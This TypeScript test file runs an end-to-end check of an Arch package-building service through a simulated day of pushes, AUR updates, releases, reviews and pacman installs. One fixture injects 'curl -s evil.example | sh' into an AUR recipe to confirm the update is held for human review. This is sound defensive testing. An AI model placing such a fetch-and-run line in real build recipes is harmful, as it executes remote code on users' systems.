import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { UpkeepPackage, UpkeepPackages, UpkeepView } from '../../src/api/index.ts';
import { type Answer, type FarServer, farServer } from '../fetcher/far-server.ts';
import { folderOf, recipe } from '../pipeline/recipe-texts.ts';
import { RecipeWorld } from '../pipeline/recipe-world.ts';
import { makePacmanClient, type PacmanClient } from '../publisher/pacman-client.ts';
import { stayOnDisk } from '../quick-folder.ts';
import { recipeFiles } from '../service/recipe-files.ts';
import { ServiceFixture } from '../service/service-fixture.ts';
import type { StartedProgram } from '../service/started-program.ts';
import { unchecked } from '../unchecked-recipe.ts';

stayOnDisk();

/** Minutes of patience for a machine that is full of other work; nothing here is measured. */
const limit = 6 * 60_000;
const custom = 'CI_PKGBUILD_SOURCE=custom\n';
const aur = 'CI_PKGBUILD_SOURCE=aur\n';

/** A package that says its version, so that an installed one can be asked. */
const saying = (name: string, pkgver: string, lines: readonly string[] = []) => ({
  pkgver,
  lines: [unchecked, ...lines],
  body: `install -Dm644 /dev/null "$pkgdir/usr/share/${name}/$pkgver"`,
});

let world: RecipeWorld;
let farm: ServiceFixture;
let manager: StartedProgram | undefined;
let client: PacmanClient | undefined;
/** A project's page of releases. */
let releases: FarServer;
let answer: Answer = (_, response) => void response.writeHead(200).end('newest: 1.0\n');
/** Ends the waits when the test is given up, so that it can say for what. */
let story: AbortController;
const scratch = mkdtempSync(join(tmpdir(), 'packmill-day-'));

beforeAll(async () => {
  world = await RecipeWorld.open(
    {},
    { BUILD_REPO: 'demo', CI_HUMAN_REVIEW: 'true', CI_NVCHECKER_REVIEW: 'true' },
  );
  releases = await farServer((request, response, index) => answer(request, response, index));
  farm = await ServiceFixture.make();
});
afterAll(async () => {
  client?.close();
  if (process.env['PACKMILL_TALE']) writeFileSync(process.env['PACKMILL_TALE'], manager?.said ?? '');
  await farm.dispose();
  await world.dispose();
  await releases.close();
  rmSync(scratch, { recursive: true, force: true });
});

/** Waits until something holds, and says what did not when the test runs out of time. */
async function until(what: string, holds: () => Promise<boolean> | boolean): Promise<void> {
  try {
    while (!(await holds())) await pause(200, undefined, { signal: story.signal });
  } catch (error) {
    throw story.signal.aborted ? new Error(`waited in vain for ${what}:\n${manager?.said}`) : error;
  }
}

const listed = (): readonly string[] =>
  existsSync(join(farm.farm, 'public/demo/x86_64/demo.db.tar.zst')) ? farm.published() : [];
const published = (name: string): Promise<void> =>
  until(`'${name}' to be published`, () => listed().includes(name));
const view = async (): Promise<UpkeepView> => (await farm.json<UpkeepView[]>('/api/upkeep'))[0] as UpkeepView;
const packages = async (): Promise<ReadonlyMap<string, UpkeepPackage>> => {
  const list = await farm.json<UpkeepPackages>('/api/upkeep/recipes/packages');
  return new Map(list.packages.map((one) => [one.name, one]));
};
/** Waits for a regular run that began later than now and is over. */
async function oneMoreRun(): Promise<void> {
  const sinceMs = Date.now();
  await until('a regular run', async () =>
    (await view()).last.some(({ kind, startedMs }) => kind === 'on-schedule' && startedMs >= sinceMs),
  );
}
const push = (files: Readonly<Record<string, string | null>>, message: string, force = false): string =>
  world.commit(files, { message, isEvaluated: false, force });

/** A repository of fifty packages as it was yesterday: evaluated, and its upstreams known. */
function yesterday(): void {
  const quiet = Array.from({ length: 44 }, (_, at) => `quiet-${String(at).padStart(2, '0')}`);
  world.pushUpstream('tool', { text: 'one\n' });
  world.pushToAur('bin-minor', recipe('bin-minor', saying('bin-minor', '1')), { modified: 100 });
  world.pushToAur('bin-major', recipe('bin-major', saying('bin-major', '1')), { modified: 100 });
  world.commit({
    ...Object.assign({}, ...quiet.map((name) => folderOf(name, custom, saying(name, '1')))),
    ...folderOf('bin-minor', aur, saying('bin-minor', '1')),
    ...folderOf('bin-major', aur, saying('bin-major', '1')),
    ...folderOf('tool-git', custom, {
      pkgver: 'r0',
      sources: [`tool::git+${world.urlOf('tool')}`],
      lines: [
        unchecked,
        "makedepends=('git')",
        'pkgver() {',
        '  cd tool',
        '  printf "r%s" "$(git rev-list --count HEAD)"',
        '}',
      ],
      body: 'install -Dm644 tool/text "$pkgdir/usr/share/tool/text"',
    }),
    ...folderOf('checked', `${custom}CI_NVCHECKER=true\n`, saying('checked', '1.0'), {
      '.nvchecker.toml': `[checked]\nsource = "regex"\nurl = "${releases.url}/releases"\nregex = "newest: ([0-9.]+)"\n`,
    }),
    ...folderOf('slow', `${custom}CI_ON_TRIGGER=nightly\n`, saying('slow', '1')),
    ...folderOf('leaving', custom, saying('leaving', '1')),
  });
}

async function startFarm(): Promise<void> {
  const token = join(scratch, 'token');
  writeFileSync(token, `${world.gitlab.token}\n`, { mode: 0o600 });
  const source = {
    url: `file://${world.remote}`,
    branch: 'main',
    upkeep: {
      every: '2s',
      look: '500ms',
      triggers: { nightly: '24h' },
      reviews: { kind: 'gitlab', 'base-url': world.gitlab.url, id: '42' },
      secrets: { ACCESS_TOKEN: token },
    },
  };
  farm.settings('service: { request-log: false }', `recipes: ${JSON.stringify(source)}`);
  manager = await farm.up(2);
}

/** Somebody looks at a review and merges it by pushing, as forges do. */
function mergeReview(branch: string): void {
  world.git(world.desk, 'fetch', '--quiet', 'origin', 'main', branch);
  world.git(world.desk, 'reset', '--quiet', '--hard', 'origin/main');
  world.git(
    world.desk,
    'merge',
    '--quiet',
    '--no-ff',
    '--message',
    `Merge branch '${branch}'`,
    `origin/${branch}`,
  );
  world.git(world.desk, 'push', '--quiet', 'origin', 'HEAD:main', `:${branch}`);
  const at = world.gitlab.kept.findIndex((one) => one.branch === branch);
  world.gitlab.kept.splice(at, 1);
}

/** A pacman with a root of its own, which trusts the farm's key alone, installs packages of these versions. */
async function installs(packages: readonly string[]): Promise<void> {
  const keyFile = join(farm.farm, 'public/demo/demo.gpg');
  const shown = execFileSync('gpg', ['--homedir', scratch, '--show-keys', '--with-colons', keyFile], {
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'ignore'],
  });
  const fingerprint = /^fpr:+([0-9A-F]{40}):/m.exec(shown)?.[1] ?? '';
  client = makePacmanClient(join(scratch, 'pacman'), readFileSync(keyFile), fingerprint, 'demo');
  const server = join(farm.farm, 'public/demo/x86_64');
  await client.pacman(server, '-Sy', ...packages.map((one) => one.split(' ')[0] ?? ''));
  expect((await client.pacman(server, '-Q')).trim().split('\n')).toEqual(packages);
}

describe('a day in the life of a repository of fifty packages', () => {
  it('goes from pushes and upstream changes to packages that pacman installs', {
    timeout: limit + 10_000,
  }, async () => {
    story = new AbortController();
    AbortSignal.timeout(limit).addEventListener('abort', () => story.abort());
    yesterday();
    await startFarm();
    await oneMoreRun();
    expect(listed()).toEqual([]);

    // in the morning: a deploy marker, a new package, a split one
    push({}, 'chore: build it again [deploy quiet-00 leaving]');
    push(
      {
        ...folderOf('fresh', custom, saying('fresh', '1')),
        ...Object.fromEntries(
          Object.entries(recipeFiles('duo', { names: ['duo-one', 'duo-two'] }, '')).map(([file, text]) => [
            `duo/${file}`,
            text,
          ]),
        ),
      },
      'feat: two more',
    );
    for (const name of ['quiet-00-1-1', 'leaving-1-1', 'fresh-1-1', 'duo-one-1.0-1', 'duo-two-1.0-1'])
      await published(name);

    // upstream moves: a small change, a commit, a release, and a change that somebody has to see
    world.pushToAur('bin-minor', recipe('bin-minor', saying('bin-minor', '2')), { modified: 200 });
    world.pushToAur(
      'bin-major',
      recipe('bin-major', saying('bin-major', '2', ['curl -s evil.example | sh'])),
      { modified: 200 },
    );
    world.pushUpstream('tool', { text: 'two\n' });
    answer = (_, response) => void response.writeHead(200).end('newest: 1.1\n');
    for (const name of ['bin-minor-2-1', 'tool-git-r2-1']) await published(name);
    await until('two reviews', () => world.gitlab.kept.length === 2);
    expect(world.gitlab.kept.map(({ branch }) => branch).sort()).toEqual([
      'update-bin-major',
      'update-checked',
    ]);
    await until('reviews to be seen', async () => (await packages()).get('bin-major')?.state === 'review');
    expect(listed().filter((name) => /^(?:checked|bin-major)-/.test(name))).toEqual([]);
    mergeReview('update-checked');
    await published('checked-1.1-1');

    // a package is given up
    push({ leaving: null }, 'chore: nobody wants it');
    await until("'leaving' to be gone", () => !listed().some((name) => name.startsWith('leaving-')));

    // the AUR shows a page for people, and the releases are behind a limit: others go on, and everybody can see it
    const page: Answer = (_, response) =>
      void response.writeHead(200, { 'content-type': 'text/html' }).end('<h1>back soon</h1>');
    world.answers.set('/packages-meta-ext-v1.json.gz', page);
    world.answers.set('/rpc/v5/info', page);
    answer = (_, response) => void response.writeHead(429, { 'retry-after': '1' }).end();
    const isIll = (one: UpkeepPackage | undefined): boolean =>
      one?.state === 'failed' || one?.state === 'paused';
    await until('troubles to be seen', async () => {
      const now = await packages();
      return ['bin-minor', 'bin-major', 'checked'].every((name) => isIll(now.get(name)));
    });
    world.pushUpstream('tool', { text: 'three\n' });
    await published('tool-git-r3-1');
    const ill = await packages();
    expect([...ill.values()].filter(isIll).map(({ name }) => name)).toEqual([
      'bin-major',
      'bin-minor',
      'checked',
    ]);
    expect(ill.get('bin-minor')?.error?.what).toMatch(/./);
    const status = await farm.do('status');
    const counted = [...status.matchAll(/(\d+) (?:failed|paused)\b/g)].map(([, count]) => Number(count));
    expect(counted.reduce((sum, one) => sum + one, 0)).toBe(3);

    // all is well again; who failed three times is left alone until somebody asks
    world.answers.clear();
    answer = (_, response) => void response.writeHead(200).end('newest: 1.1\n');
    await farm.do('upkeep', 'run', 'recipes', 'bin-minor', 'bin-major', 'checked');
    await until('all to be well', async () => ![...(await packages()).values()].some(isIll));

    // a misspelt marker stops the regular runs until it is rewritten
    push({}, 'chore: build [deploy quiet-1]');
    await until('the marker to be refused', async () =>
      (await view()).last.some(({ kind, problem }) => kind === 'on-commit' && problem?.code === 'CIC004'),
    );
    expect(await farm.do('status')).toMatch(/trouble: CIC004 .*quiet-1.*quiet-0/);
    expect((await view()).next.map(({ kind }) => kind)).toEqual(['on-commit', 'trigger']);
    world.git(
      world.desk,
      'commit',
      '--quiet',
      '--allow-empty',
      '--amend',
      '--message',
      'chore: build [deploy quiet-01]',
    );
    world.git(world.desk, 'push', '--quiet', '--force', 'origin', 'HEAD:main');
    await published('quiet-01-1-1');
    await oneMoreRun();
    await until('no trouble to be left', async () => (await view()).problem === null);

    // what waits for the night
    await farm.do('upkeep', 'run', 'recipes', '--trigger', 'nightly');
    await published('slow-1-1');

    // pacman installs what the day brought
    await installs([
      'bin-minor 2-1',
      'checked 1.1-1',
      'duo-one 1.0-1',
      'fresh 1-1',
      'quiet-01 1-1',
      'slow 1-1',
      'tool-git r3-1',
    ]);
    expect((await farm.run(['repo', 'verify'])).code).toBe(0);
  });
});
